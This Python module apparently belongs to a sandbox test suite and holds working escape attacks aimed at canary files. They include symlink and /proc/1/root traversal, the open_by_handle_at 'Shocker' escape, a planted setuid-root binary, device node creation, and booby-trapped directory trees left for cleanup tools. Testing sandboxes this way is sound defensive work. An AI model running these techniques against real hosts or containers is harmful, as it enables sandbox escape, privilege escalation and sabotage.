# ruff: noqa: PTH102, PTH208 - descriptors and names, as an attacker uses them
"""Attacks on the host's files, on what is shared by all sandboxes, and on whoever handles what a sandbox has left."""

import contextlib
import ctypes
import os
import stat
import subprocess
from pathlib import Path
from typing import Any

from attacks.kernel import call

DATA = Path("/data")
_DEEP = 1200


def _data(orders: dict[str, Any]) -> Path:
    """Where the data folder is; told, where there is no sandbox around the attack."""
    return Path(orders["data"]) if Path(orders["data"]).is_dir() else DATA


def read_host_file(orders: dict[str, Any]) -> str:
    return Path(orders["canary"]).read_text()


def write_host_file(orders: dict[str, Any]) -> str:
    Path(orders["canary"]).with_name("guarded").write_text(orders["mark"])
    return "written"


def link_out(orders: dict[str, Any]) -> str:
    """Through links in its own folders, relative and absolute, to a file, to a folder and to another file system's root."""
    seen = []
    targets = (orders["canary"], f"/proc/1/root{orders['canary']}", "../" * 12 + orders["canary"].lstrip("/"))
    for number, target in enumerate(targets):
        link = Path.cwd() / f"out-{number}"
        with contextlib.suppress(OSError):
            link.symlink_to(target)
            seen.append(link.read_text())
    return "\n".join(seen) or "nothing"


def hard_link(orders: dict[str, Any]) -> str:
    os.link(orders["canary"], Path(orders["canary"]).with_name(orders["mark"]))
    return "linked"


def process_roots(orders: dict[str, Any]) -> str:
    """Through the root and the working folder of every process that it sees."""
    seen = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            for door in ("root", "cwd"):
                with contextlib.suppress(OSError):
                    seen.append(Path(f"/proc/{name}/{door}{orders['canary']}").read_text())
    return "\n".join(seen[:3]) or "nothing"


def file_handle(orders: dict[str, Any]) -> str:
    """Opens the canary by its handle, without a path to it: ``open_by_handle_at(2)``, the way out that was called Shocker."""
    raw = bytes.fromhex(orders["handle"])
    buffer = ctypes.create_string_buffer(raw, len(raw))
    for folder in (orders["data"], str(DATA), "/", "/app", "/etc/hosts", "/usr"):
        with contextlib.suppress(OSError):
            mount = os.open(folder, os.O_RDONLY)
            with os.fdopen(call("open_by_handle_at", mount, buffer, os.O_RDONLY)) as file:
                return file.read()
    return "no folder gave it"


def device_node(orders: dict[str, Any]) -> str:
    os.mknod(_data(orders) / "disk", stat.S_IFBLK | 0o666, os.makedev(7, 0))
    return "made"


def setuid_file(orders: dict[str, Any]) -> str:
    """Leaves a program that runs as root for whoever starts it on the host."""
    left = _data(orders) / "tool"
    left.write_bytes(Path("/bin/true").read_bytes())
    with contextlib.suppress(OSError):
        os.chown(left, 0, 0)
    left.chmod(0o4755)
    return "left"


def setuid_program(orders: dict[str, Any]) -> str:
    """Reads what only root may read, with a program that runs as root."""
    done = subprocess.run([orders["setuid"], orders["sealed"]], capture_output=True, text=True, timeout=5, check=False)
    return done.stdout + done.stderr


def data_link(orders: dict[str, Any]) -> str:
    """Leaves links in its data folder for whoever gives the folder to somebody, counts it or removes it."""
    folder = _data(orders)
    (folder / "file").symlink_to(Path(orders["canary"]).with_name("guarded"))
    (folder / "folder").symlink_to(Path(orders["canary"]).parent)
    return "left"


def data_tree(orders: dict[str, Any]) -> str:
    """Leaves a tree that cannot be walked down and must be removed all the same."""
    folder = _data(orders)
    (folder / b"bad\nname\x1b[31m\xff".decode("utf-8", "surrogateescape")).write_text("x")
    os.mkfifo(folder / "pipe")
    os.chdir(folder)
    for _ in range(_DEEP):
        os.mkdir("d")
        os.chdir("d")
    Path("x").write_text("x")
    closed = folder / "closed"
    (closed / "inner").mkdir(parents=True)
    (closed / "inner" / "x").write_text("x")
    (closed / "inner").chmod(0)
    closed.chmod(0)
    return "left"
